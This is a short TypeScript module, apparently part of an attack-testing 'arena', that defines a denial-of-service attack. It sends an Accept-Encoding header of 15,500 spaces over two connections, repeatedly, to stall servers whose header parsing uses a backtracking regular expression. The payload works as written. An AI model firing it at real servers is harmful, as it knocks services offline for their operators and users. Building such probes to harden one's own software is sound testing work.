import type { Attack } from "../../arena/attack.ts";
import { statusOf } from "../../arena/calls.ts";
import { keepCalling } from "../../arena/keep-calling.ts";

const CONNECTIONS = 2;
const BLANKS = 15_500;

/** A header within the bounds of a request that keeps a careless regular expression busy for seconds. */
export const longEncodings: Attack = {
  name: "Accept-Encoding with 15,500 blanks, from two connections",
  async begin({ origin }) {
    const headers = { "accept-encoding": `a${" ".repeat(BLANKS)}b` };
    return keepCalling(CONNECTIONS, () => statusOf(fetch(origin, { headers })));
  },
};
